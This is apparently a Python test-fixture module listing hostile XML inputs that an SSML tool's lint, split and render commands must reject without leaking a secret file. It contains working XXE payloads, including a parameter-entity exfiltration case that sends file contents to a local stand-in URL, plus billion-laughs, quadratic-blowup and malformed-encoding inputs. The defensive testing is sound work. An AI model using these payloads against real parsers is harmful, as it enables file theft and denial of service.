"""The hostile inputs, built fresh for each test (a secret file's path goes into some of them).

Each case is a function of the secret file's ``file://`` URL returning the bytes to feed in. Every
case must make ``ssmlkit lint`` exit 1 with a finding, make ``split`` and ``render`` refuse, and
never let the secret into any output.
"""

from __future__ import annotations

import codecs
from collections.abc import Callable

#: What the secret file holds; it must never appear in any output.
SECRET = "TOP-SECRET-MARKER-7f3a9c"

Case = Callable[[str], bytes]


def _deep(depth: int) -> bytes:
    return b"<speak>" + b'<sub alias="x">' * depth + b"x" + b"</sub>" * depth + b"</speak>"


def _billion_laughs(_url: str) -> bytes:
    lines = ['<!ENTITY lol0 "lol">']
    for i in range(1, 10):
        lines.append(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">')
    dtd = "".join(lines)
    return f"<?xml version='1.0'?><!DOCTYPE speak [{dtd}]><speak>&lol9;</speak>".encode()


HOSTILE: dict[str, Case] = {
    "external-entity": lambda url: (
        f'<?xml version="1.0"?><!DOCTYPE speak [<!ENTITY x SYSTEM "{url}">]><speak>&x;</speak>'
    ).encode(),
    "external-entity-in-attribute": lambda url: (
        f'<!DOCTYPE speak [<!ENTITY x SYSTEM "{url}">]><speak><sub alias="&x;">a</sub></speak>'
    ).encode(),
    "parameter-entity": lambda url: (
        f'<!DOCTYPE speak [<!ENTITY % p SYSTEM "{url}"> %p;]><speak>hello</speak>'
    ).encode(),
    "parameter-entity-exfiltration": lambda url: (
        f'<!DOCTYPE speak [<!ENTITY % file SYSTEM "{url}">'
        "<!ENTITY % eval \"<!ENTITY &#x25; out SYSTEM 'http://127.0.0.1:1/?%file;'>\">"
        "%eval; %out;]><speak>hello</speak>"
    ).encode(),
    "billion-laughs": _billion_laughs,
    "quadratic-blowup": lambda _url: (
        f'<!DOCTYPE speak [<!ENTITY a "{"x" * 50_000}">]><speak>{"&a;" * 5_000}</speak>'
    ).encode(),
    "external-dtd": lambda _url: (
        b'<!DOCTYPE speak SYSTEM "http://127.0.0.1:1/x.dtd"><speak>hi</speak>'
    ),
    "external-dtd-local-file": lambda url: (
        f'<!DOCTYPE speak SYSTEM "{url}"><speak>hi</speak>'.encode()
    ),
    "deep-nesting-50000": lambda _url: _deep(50_000),
    "binary-garbage": lambda _url: bytes(range(256)) * 64,
    "random-binary": lambda _url: bytes((i * 7919 + 13) % 251 for i in range(50_000)),
    "nul": lambda _url: b"<speak>a\x00b</speak>",
    "only-nuls": lambda _url: b"\x00" * 10_000,
    "control-characters": lambda _url: b"<speak>a\x01\x08\x0b\x0c\x1f b</speak>",
    "forbidden-char-reference": lambda _url: b"<speak>a&#0;&#x1;&#xD800;b</speak>",
    "encoded-surrogate": lambda _url: b"<speak>a\xed\xa0\x80b</speak>",
    "invalid-utf8": lambda _url: b"<speak>caf\xe9 \xff\xfe\xc3</speak>",
    "truncated-utf8": lambda _url: "<speak>你好</speak>".encode()[:-9],
    "says-latin1-is-utf8": lambda _url: (
        '<?xml version="1.0" encoding="ISO-8859-1"?><speak>你好，世界</speak>'.encode()
    ),
    "says-utf16-is-utf8": lambda _url: (
        '<?xml version="1.0" encoding="UTF-16"?><speak>你好</speak>'.encode()
    ),
    "says-ebcdic-is-utf8": lambda _url: b'<?xml version="1.0" encoding="cp500"?><speak>hi</speak>',
    "unknown-encoding": lambda _url: b'<?xml version="1.0" encoding="x-no-such"?><speak>hi</speak>',
    "utf8-bom-says-latin1": lambda _url: (
        codecs.BOM_UTF8 + b'<?xml version="1.0" encoding="ISO-8859-1"?><speak>hi</speak>'
    ),
    "utf16le-bom-says-utf8": lambda _url: (
        codecs.BOM_UTF16_LE
        + '<?xml version="1.0" encoding="UTF-8"?><speak>你好</speak>'.encode("utf-16-le")
    ),
    "utf16be-bom-says-latin1": lambda _url: (
        codecs.BOM_UTF16_BE
        + '<?xml version="1.0" encoding="ISO-8859-1"?><speak>你好</speak>'.encode("utf-16-be")
    ),
    "utf8-bom-then-utf16-body": lambda _url: (
        codecs.BOM_UTF8 + "<speak>你好</speak>".encode("utf-16-le")
    ),
    "utf16-without-bom": lambda _url: "<speak>你好</speak>".encode("utf-16-le"),
    "flood-of-bare-lt": lambda _url: b"<speak>" + b"<" * 2_000_000 + b"</speak>",
    "flood-of-stray-end-tags": lambda _url: b"<speak>" + b"</a>" * 500_000 + b"</speak>",
}
